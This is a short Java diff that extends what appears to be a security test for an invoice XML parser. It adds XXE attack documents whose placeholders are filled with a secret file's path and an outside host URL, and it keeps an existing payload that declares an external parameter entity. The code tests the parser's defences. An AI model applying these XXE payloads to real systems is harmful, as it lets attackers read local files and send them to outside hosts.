@@ -121,7 +121,11 @@ public class Main {
                 "<!DOCTYPE invoice [<!ENTITY % p SYSTEM '" + outside + "/parameter'> %p;]><invoice/>",
             };
             Invoices invoices = new Invoices();
-            for (String text : texts) {
+            List<String> all = new ArrayList<>(List.of(texts));
+            for (String document : Attacks.DOCUMENTS) {
+                all.add(document.replace("{FILE}", secret.toUri().toString()).replace("{OUT}", outside + "/x"));
+            }
+            for (String text : all) {
                 for (var encoding : List.of(StandardCharsets.UTF_8, StandardCharsets.UTF_16)) {
                     String note = "";
                     try {
